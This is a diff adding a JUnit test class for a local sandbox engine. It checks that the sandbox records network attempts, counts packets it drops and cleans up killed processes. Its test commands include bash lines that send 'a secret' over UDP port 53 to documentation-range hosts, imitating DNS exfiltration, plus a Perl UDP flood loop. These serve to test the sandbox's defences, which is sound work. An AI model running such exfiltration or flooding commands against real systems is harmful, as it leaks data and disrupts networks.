@@ -1,0 +1,143 @@
+package dev.assay.sandbox.local;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.assay.sandbox.FileLeases;
+import dev.assay.sandbox.SandboxEngines;
+import dev.assay.skill.sandbox.Command;
+import dev.assay.skill.sandbox.CommandResult;
+import dev.assay.skill.sandbox.OutputListener;
+import dev.assay.skill.sandbox.RunningCommand;
+import dev.assay.skill.sandbox.Sandbox;
+import dev.assay.skill.sandbox.SandboxFailure;
+import dev.assay.skill.sandbox.SandboxImage;
+import dev.assay.skill.sandbox.SandboxSpec;
+import dev.assay.skill.sandbox.local.LocalSandboxes;
+import dev.assay.skill.sandbox.local.LocalSettings;
+import java.io.IOException;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+
+/// Nothing is tried, left or lost silently.
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class EvidenceStoryTest {
+  private Path home = Path.of("");
+  private FileLeases leases;
+  private LocalSandboxes engine;
+
+  @BeforeAll
+  void start() throws IOException {
+    home = TestHome.create("evidence");
+    leases = new FileLeases(home.resolve("leases"));
+    engine = SandboxEngines.local(LocalSettings.in(home.resolve("sandboxes")), leases);
+  }
+
+  @AfterAll
+  void stop() throws IOException {
+    engine.close();
+    leases.close();
+    TestHome.assertNothingLeft(home);
+  }
+
+  private Sandbox sandbox() {
+    return engine.create(SandboxSpec.of(SandboxImage.of("host"), "evidence"));
+  }
+
+  private static CommandResult bash(Sandbox sandbox, String line) {
+    return sandbox.run(Command.of("bash", "-c", line).withTimeout(Duration.ofSeconds(60)));
+  }
+
+  private ProcessHandle helperOf(Sandbox sandbox) {
+    return ProcessHandle.current()
+        .children()
+        .filter(p -> p.info().commandLine().orElse("").endsWith(" run " + sandbox.id()))
+        .findFirst()
+        .orElseThrow();
+  }
+
+  private static void signal(String name, ProcessHandle process) {
+    NativeProgram.ask(List.of("kill", "-" + name, Long.toString(process.pid())));
+  }
+
+  @Test
+  void what_is_sent_to_port_53_and_is_no_question_to_our_name_server_is_recorded() {
+    try (Sandbox sandbox = sandbox()) {
+      bash(
+          sandbox,
+          "printf 'a secret that is no question at all' > /dev/udp/203.0.113.9/53;"
+              + " printf 'a secret that is no question at all' > /dev/udp/10.0.2.3/53;"
+              + " printf 'a secret that is no question at all' > /dev/udp/2001:db8::9/53;"
+              + " printf 'ab\\x81\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6answer\\0\\0\\1\\0\\1' > /dev/udp/10.0.2.3/53;"
+              + " printf 'ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5asked\\0\\0\\1\\0\\1' > /dev/udp/203.0.113.8/53");
+      assertThat(sandbox.network().attempted())
+          .contains("203.0.113.9:53", "10.0.2.3:53", "2001:db8::9:53", "203.0.113.8:53", "asked");
+    }
+  }
+
+  @Test
+  void an_ordinary_question_is_told_as_a_name_only() {
+    try (Sandbox sandbox = sandbox()) {
+      bash(sandbox, "getent hosts example.com");
+      assertThat(sandbox.network().attempted()).containsExactly("example.com");
+    }
+  }
+
+  @Test
+  void packets_the_recorder_had_no_room_for_are_counted() {
+    try (Sandbox sandbox = sandbox()) {
+      ProcessHandle helper = helperOf(sandbox);
+      signal("STOP", helper);
+      try {
+        bash(
+            sandbox,
+            "perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); for (1 .. 40000)"
+                + " { send(S, \"x\" x 1400, 0, sockaddr_in(7, inet_aton(\"203.0.113.9\"))) }'");
+      } finally {
+        signal("CONT", helper);
+      }
+      assertThat(sandbox.network().lost()).isPositive();
+    }
+  }
+
+  @Test
+  void a_daemon_does_not_outlive_a_leader_that_somebody_killed() {
+    try (Sandbox sandbox = sandbox()) {
+      bash(
+          sandbox,
+          "leader=$PPID; (sleep 0.3; kill -9 $leader; exec perl -e 'sleep 4740') >/dev/null 2>&1 </dev/null &");
+      CommandResult result =
+          bash(
+              sandbox,
+              "sleep 0.5; for i in $(seq 100); do pgrep -x perl >/dev/null || exit 0; sleep 0.05; done; exit 1");
+      assertThat(result.succeeded()).isTrue();
+    }
+  }
+
+  @Test
+  void removing_a_living_sandbox_of_one_s_own_ends_it_properly() {
+    Sandbox sandbox = sandbox();
+    engine.remove(sandbox.id());
+    assertThat(leases.list()).isEmpty();
+    assertThatThrownBy(() -> sandbox.run(Command.of("true")))
+        .isInstanceOfSatisfying(
+            SandboxFailure.class, e -> assertThat(e.code().name()).isEqualTo("SANDBOX_GONE"));
+  }
+
+  @Test
+  void a_command_whose_helper_was_killed_ends_as_a_failure_of_the_platform() {
+    try (Sandbox sandbox = sandbox()) {
+      RunningCommand running = sandbox.start(Command.of("sleep", "4741"), OutputListener.silent());
+      bash(sandbox, "until pgrep -x sleep >/dev/null; do :; done");
+      helperOf(sandbox).destroyForcibly();
+      assertThatThrownBy(running::await).isInstanceOf(SandboxFailure.class);
+    }
+    assertThat(ProcessHandle.allProcesses().map(p -> p.info().commandLine().orElse("")))
+        .noneMatch(line -> line.endsWith("sleep 4741"));
+  }
+}
